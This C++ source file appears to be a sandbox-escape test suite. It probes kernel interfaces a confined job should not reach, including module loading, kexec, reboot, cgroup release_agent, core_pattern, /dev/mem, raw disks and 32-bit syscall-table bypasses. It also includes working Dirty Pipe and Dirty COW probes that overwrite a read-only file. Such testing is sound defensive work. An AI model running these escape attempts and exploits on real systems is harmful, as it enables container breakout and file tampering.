// SPDX-License-Identifier: Apache-2.0
// Doors of the kernel that a job has no business at.
#include <cstring>
#include <ctime>

#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/wait.h>

#include "attempt.hpp"

namespace vcity::escape {
namespace {

Outcome bpf_map(const Target&) {
    bpf_attr request{};
    request.map_type = BPF_MAP_TYPE_ARRAY;
    request.key_size = 4;
    request.value_size = 4;
    request.max_entries = 1;
    return outcome_of("bpf map", raw_call(SYS_bpf, BPF_MAP_CREATE, &request, sizeof(request)));
}
Outcome bpf_program(const Target&) {
    const bpf_insn code[] = {{.code = 0xb7, .dst_reg = 0, .src_reg = 0, .off = 0, .imm = 0},
                             {.code = 0x95, .dst_reg = 0, .src_reg = 0, .off = 0, .imm = 0}};
    bpf_attr request{};
    request.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    request.insn_cnt = 2;
    request.insns = reinterpret_cast<std::uint64_t>(code);
    request.license = reinterpret_cast<std::uint64_t>("GPL");
    return outcome_of("bpf program", raw_call(SYS_bpf, BPF_PROG_LOAD, &request, sizeof(request)));
}
Outcome keyring(const Target&) {
    return outcome_of("keyctl", raw_call(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1));
}
Outcome add_a_key(const Target&) {
    return outcome_of("add_key", raw_call(SYS_add_key, "user", "escape", "x", 1UL, KEY_SPEC_PROCESS_KEYRING));
}
Outcome request_a_key(const Target&) {
    const long result = raw_call(SYS_request_key, "user", "escape", nullptr, KEY_SPEC_PROCESS_KEYRING);
    if (result == -ENOKEY) return succeeded("the keys were searched");
    return outcome_of("request_key", result);
}
Outcome io_uring(const Target&) {
    io_uring_params parameters{};
    return outcome_of("io_uring_setup", raw_call(SYS_io_uring_setup, 4U, &parameters));
}
Outcome page_faults(const Target&) {
    return worst_of(
        {outcome_of("userfaultfd", raw_call(SYS_userfaultfd, O_CLOEXEC)), opens_for_writing("/dev/userfaultfd")});
}
Outcome performance_events(const Target&) {
    perf_event_attr event{};
    event.size = sizeof(event);
    event.type = PERF_TYPE_SOFTWARE;
    event.config = PERF_COUNT_SW_CPU_CLOCK;
    return outcome_of("perf_event_open", raw_call(SYS_perf_event_open, &event, 0, -1, -1, 0UL));
}
Outcome load_a_module(const Target&) {
    const long result = raw_call(SYS_init_module, "not a module", 12UL, "");
    if (result == -ENOEXEC) return succeeded("the kernel looked at the module");
    return outcome_of("init_module", result);
}
Outcome load_a_module_file(const Target&) {
    const int file = ::open("/usr/bin/env", O_RDONLY | O_CLOEXEC);
    const long result = raw_call(SYS_finit_module, file, "", 0);
    if (result == -ENOEXEC) return succeeded("the kernel looked at the module");
    return outcome_of("finit_module", result);
}
Outcome unload_a_module(const Target&) {
    const long result = raw_call(SYS_delete_module, "no_such_module", O_NONBLOCK);
    if (result == -ENOENT) return succeeded("the kernel looked for the module");
    return outcome_of("delete_module", result);
}
Outcome another_kernel(const Target&) {
    return outcome_of("kexec_load", raw_call(SYS_kexec_load, 0UL, 0UL, nullptr, 0UL));
}
Outcome reboot_the_host(const Target&) {
    return outcome_of(
        "reboot", raw_call(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, nullptr));
}
Outcome swap_on_a_file(const Target&) {
    return outcome_of("swapon", raw_call(SYS_swapon, "/tmp/no-such-swap", 0));
}
Outcome accounting(const Target&) {
    return outcome_of("acct", raw_call(SYS_acct, "/tmp/no-such-file"));
}
Outcome kernel_log(const Target&) {
    char text[64];
    return worst_of({outcome_of("syslog", raw_call(SYS_syslog, 3, text, static_cast<int>(sizeof(text)))),
                     outcome_of("open /dev/kmsg", raw_call(SYS_open, "/dev/kmsg", O_RDONLY | O_NONBLOCK)),
                     outcome_of("open /proc/kmsg", raw_call(SYS_open, "/proc/kmsg", O_RDONLY | O_NONBLOCK))});
}
Outcome ports_of_the_machine(const Target&) {
    return worst_of(
        {outcome_of("iopl", raw_call(SYS_iopl, 3)), outcome_of("ioperm", raw_call(SYS_ioperm, 0x80UL, 1UL, 1))});
}
Outcome set_the_clock(const Target&) {
    timespec now{};
    ::clock_gettime(CLOCK_REALTIME, &now);
    timex adjustment{};
    adjustment.modes = ADJ_TICK;
    adjustment.tick = 10'000;
    return worst_of({outcome_of("clock_settime", raw_call(SYS_clock_settime, CLOCK_REALTIME, &now)),
                     outcome_of("adjtimex", raw_call(SYS_adjtimex, &adjustment))});
}
Outcome rename_the_host(const Target&) {
    return worst_of({outcome_of("sethostname", raw_call(SYS_sethostname, "owned", 5UL)),
                     outcome_of("setdomainname", raw_call(SYS_setdomainname, "owned", 5UL))});
}
Outcome core_pattern(const Target&) {
    return worst_of({opens_for_writing("/proc/sys/kernel/core_pattern"), opens_for_writing("/proc/sys/kernel/modprobe"),
                     opens_for_writing("/proc/sys/kernel/hotplug")});
}
Outcome kernel_settings(const Target&) {
    return worst_of({opens_for_writing("/proc/sys/vm/drop_caches"), opens_for_writing("/proc/sys/vm/overcommit_memory"),
                     opens_for_writing("/proc/sys/kernel/pid_max"), opens_for_writing("/proc/sys/fs/file-max")});
}
Outcome magic_request(const Target&) {
    return opens_for_writing("/proc/sysrq-trigger");
}
Outcome other_binaries(const Target&) {
    return worst_of(
        {opens_for_writing("/proc/sys/fs/binfmt_misc/register"), opens_for_writing("/proc/sys/fs/binfmt_misc/status")});
}
Outcome release_agent(const Target&) {
    return worst_of({opens_for_writing("/sys/fs/cgroup/memory/release_agent"),
                     opens_for_writing("/sys/fs/cgroup/pids/release_agent"),
                     opens_for_writing("/sys/fs/cgroup/systemd/release_agent")});
}
Outcome own_cgroup(const Target&) {
    return worst_of({opens_for_writing("/sys/fs/cgroup/cgroup.procs"),
                     opens_for_writing("/sys/fs/cgroup/memory/cgroup.procs"),
                     opens_for_writing("/sys/fs/cgroup/memory/memory.limit_in_bytes")});
}
Outcome uevent_helper(const Target&) {
    return worst_of({opens_for_writing("/sys/kernel/uevent_helper"), opens_for_writing("/sys/power/state"),
                     opens_for_writing("/sys/kernel/mm/transparent_hugepage/enabled")});
}
Outcome debug_file_systems(const Target&) {
    return worst_of({opens_for_writing("/sys/kernel/debug/tracing/tracing_on"),
                     opens_for_writing("/sys/kernel/tracing/tracing_on"),
                     opens_for_writing("/sys/kernel/security/apparmor/.load")});
}
Outcome memory_of_the_machine(const Target&) {
    return worst_of({opens_for_writing("/dev/mem"), opens_for_writing("/dev/kmem"), opens_for_writing("/dev/port"),
                     outcome_of("open /proc/kcore", raw_call(SYS_open, "/proc/kcore", O_RDONLY))});
}
Outcome virtual_machines(const Target&) {
    return worst_of(
        {opens_for_writing("/dev/kvm"), opens_for_writing("/dev/vhost-net"), opens_for_writing("/dev/vhost-vsock")});
}
Outcome disks(const Target&) {
    std::vector<Outcome> outcomes;
    for (const char* disk : {"sda", "vda", "nvme0n1", "dm-0", "mapper/control"}) {
        outcomes.push_back(opens_for_writing(std::string{"/dev/"} + disk));
    }
    return worst_of(outcomes);
}
// A second table of system calls, which a filter on numbers of the first one would miss.
Outcome calls_of_32_bits(const Target&) {
    return in_child([] {
        long result = 0;
        // mkdir("...") is 39 of that table; the path lies above 4 GiB, so a kernel that runs it says EFAULT.
        asm volatile("int $0x80" : "=a"(result) : "a"(39L), "b"(0L), "c"(0L) : "memory");
        return result == -EFAULT ? succeeded("int 0x80 runs") : outcome_of("int 0x80", result);
    });
}
Outcome calls_of_x32(const Target&) {
    constexpr long kX32 = 0x40000000;
    return in_child([] { return outcome_of("x32 mount", raw_call(kX32 + SYS_mount, "a", "/tmp", "tmpfs", 0UL, "")); });
}
Outcome dirty_pipe(const Target& target) {
    const int file = ::open(target.public_file.c_str(), O_RDONLY | O_CLOEXEC);
    int ends[2] = {-1, -1};
    if (file < 0 || ::pipe(ends) != 0) return untried("no file or no pipe");
    // Every buffer of the pipe has been full once, so that an old kernel lets the next write join the page.
    char page[4096] = {};
    for (int count = 0; count < 16; ++count) {
        if (::write(ends[1], page, sizeof(page)) < 0) return untried("write to the pipe");
    }
    for (int count = 0; count < 16; ++count) {
        if (::read(ends[0], page, sizeof(page)) < 0) return untried("read from the pipe");
    }
    loff_t offset = 0;
    if (::splice(file, &offset, ends[1], nullptr, 1, 0) != 1) return untried("splice");
    if (::write(ends[1], "OWNED", 5) != 5) return untried("write after splice");
    char now[16] = {};
    const ssize_t count = ::pread(file, now, sizeof(now) - 1, 0);
    if (count <= 0) return untried("read back");
    return std::strstr(now, "OWNED") != nullptr ? succeeded("the page cache was changed") : refused("unchanged");
}
Outcome dirty_cow(const Target& target) {
    const int file = ::open(target.public_file.c_str(), O_RDONLY | O_CLOEXEC);
    if (file < 0) return untried("no file");
    void* page = ::mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (page == MAP_FAILED) return untried("mmap");
    const pid_t child = ::fork();
    if (child < 0) return untried("fork");
    if (child == 0) {
        for (int round = 0; round < 20'000; ++round) ::madvise(page, 4096, MADV_DONTNEED);
        ::_exit(0);
    }
    const int memory = ::open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (memory < 0) return untried("no /proc/self/mem");
    for (int round = 0; round < 20'000; ++round) {
        if (::pwrite(memory, "OWNED", 5, reinterpret_cast<off_t>(page)) < 0) break;
    }
    ::waitpid(child, nullptr, 0);
    char now[16] = {};
    if (::pread(file, now, sizeof(now) - 1, 0) <= 0) return untried("read back");
    return std::strstr(now, "OWNED") != nullptr ? succeeded("the file was changed") : refused("unchanged");
}

constexpr Attempt kAttempts[] = {
    {"bpf_map", Control::kOutside, bpf_map},
    {"bpf_program", Control::kOutside, bpf_program},
    {"keyctl", Control::kOutside, keyring},
    {"add_key", Control::kOutside, add_a_key},
    {"request_key", Control::kOutside, request_a_key},
    {"io_uring", Control::kOutside, io_uring},
    {"userfaultfd", Control::kOutside, page_faults},
    {"perf_event_open", Control::kOutside, performance_events},
    {"init_module", Control::kNone, load_a_module},
    {"finit_module", Control::kNone, load_a_module_file},
    {"delete_module", Control::kNone, unload_a_module},
    {"kexec_load", Control::kNone, another_kernel},
    {"reboot", Control::kNone, reboot_the_host},
    {"swapon", Control::kNone, swap_on_a_file},
    {"acct", Control::kNone, accounting},
    {"kernel_log", Control::kOutside, kernel_log},
    {"machine_ports", Control::kNone, ports_of_the_machine},
    {"set_the_clock", Control::kNone, set_the_clock},
    {"set_the_host_name", Control::kOutside, rename_the_host},
    {"core_pattern", Control::kOutside, core_pattern},
    {"kernel_settings", Control::kOutside, kernel_settings},
    {"sysrq_trigger", Control::kNone, magic_request},
    {"binfmt_misc", Control::kNone, other_binaries},
    {"cgroup_release_agent", Control::kNone, release_agent},
    {"cgroup_own_limits", Control::kNone, own_cgroup},
    {"uevent_helper", Control::kNone, uevent_helper},
    {"debugfs", Control::kNone, debug_file_systems},
    {"dev_mem", Control::kNone, memory_of_the_machine},
    {"dev_kvm", Control::kNone, virtual_machines},
    {"dev_disks", Control::kNone, disks},
    {"calls_of_32_bits", Control::kNone, calls_of_32_bits},
    {"calls_of_x32", Control::kNone, calls_of_x32},
    {"dirty_pipe", Control::kNone, dirty_pipe},
    {"dirty_cow", Control::kNone, dirty_cow},
};

}  // namespace

std::span<const Attempt> kernel_attempts() {
    return kAttempts;
}

}  // namespace vcity::escape
